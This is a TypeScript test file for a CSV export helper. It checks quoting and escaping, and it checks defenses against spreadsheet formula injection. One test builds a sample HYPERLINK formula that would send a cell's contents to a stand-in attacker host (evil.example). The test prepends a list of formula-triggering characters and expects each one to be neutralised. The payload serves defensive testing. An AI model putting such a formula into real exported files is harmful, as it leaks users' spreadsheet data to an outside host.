import { expect, test } from 'vitest'
import { csvCell, csvText } from './csv'

test.each([
  ['plain', 'plain'],
  ['', ''],
  [null, ''],
  ['two words', 'two words'],
  ['a,b', '"a,b"'],
  ['a;b', '"a;b"'],
  ['say "yes"', '"say ""yes"""'],
  ['two\nlines', '"two\nlines"'],
  [' spaced ', '" spaced "'],
  ['आशा', 'आशा'],
  [12, '12'],
  [-100.5, '-100.5'],
  [Number.NaN, ''],
])('%j is written %j', (cell, expected) => {
  expect(csvCell(cell)).toBe(expected)
})

const formula = `HYPERLINK("https://evil.example?x="&A1,"click")`
const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  ' =',
  '\t=',
  '\r=',
  '\n@',
  '\u00a0+',
  '\u200b=',
  '\ufeff-',
  '＝',
  '＋',
  '－',
  '＠',
]

test.each(beginnings)('text that begins with %j is no formula', (beginning) => {
  const written = csvCell(beginning + formula)
  expect(read(`${written}\r\n`)).toEqual([[`'${beginning}${formula}`]])
})

test('what only holds such a sign stays as it is', () => {
  for (const text of ['asha@example.com', 'a-b', '1 + 1', 'x=y']) expect(csvCell(text)).toBe(text)
})

test('a file is read back cell by cell, whatever is in the cells', () => {
  const rows = [
    ['asha@example.com', 'said "no", twice', 1],
    ['line\r\nbreak', '', null],
    [',', '"', ';'],
  ]
  const text = csvText(['email', 'words', 'count'], rows)
  expect(text.startsWith('\uFEFFemail,words,count\r\n')).toBe(true)
  const [, ...back] = read(text.slice(1))
  expect(back).toEqual(rows.map((row) => row.map((cell) => String(cell ?? ''))))
})

/** Reads CSV by the letter of RFC 4180. */
function read(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let at = 0
  while (at < text.length) {
    let cell = ''
    if (text[at] === '"') {
      at += 1
      while (text[at] !== '"' || text[at + 1] === '"') {
        if (text[at] === '"') at += 1
        cell += text[at]
        at += 1
      }
      at += 1
    } else while (text[at] !== ',' && text[at] !== '\r' && at < text.length) cell += text[at++]
    row.push(cell)
    if (text[at] === ',') {
      at += 1
      continue
    }
    expect(text.slice(at, at + 2)).toBe('\r\n')
    rows.push(row)
    row = []
    at += 2
  }
  return rows
}
